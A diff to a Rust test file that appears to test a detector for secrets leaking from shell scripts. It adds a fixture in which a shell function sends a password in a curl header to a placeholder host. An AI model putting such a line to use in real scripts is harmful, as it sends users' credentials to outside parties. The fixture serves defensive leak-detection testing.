@@ -260,6 +260,18 @@ fn a_secret_among_many_messages_is_seen() {
 }
 
 #[test]
+fn a_secret_given_to_a_function_in_what_nothing_calls_is_found_where_it_leaks_however_long_that_is() {
+    let login = "ask() { date > log; curl -fsS -H \"X-Of: $2\" \"https://h/$1\"; }\n";
+    let mut text = format!("{HEAD}{login}");
+    for n in 0..200 {
+        writeln!(text, "unused{n}() {{ ask {n} x; ask {n} y; }}").expect("memory");
+    }
+    text.push_str("last() { ask 1 \"$password\"; }\n");
+    let leaks: Vec<usize> = found(&NoLibrary, &text).iter().map(|(line, _)| *line).collect();
+    assert_eq!(leaks, [HEAD.matches('\n').count()], "the line of `ask`, and no call of it");
+}
+
+#[test]
 fn functions_below_two_dozen_others_are_followed() {
     let mut text = format!("{HEAD}{HELPERS}");
     for n in 0..40 {
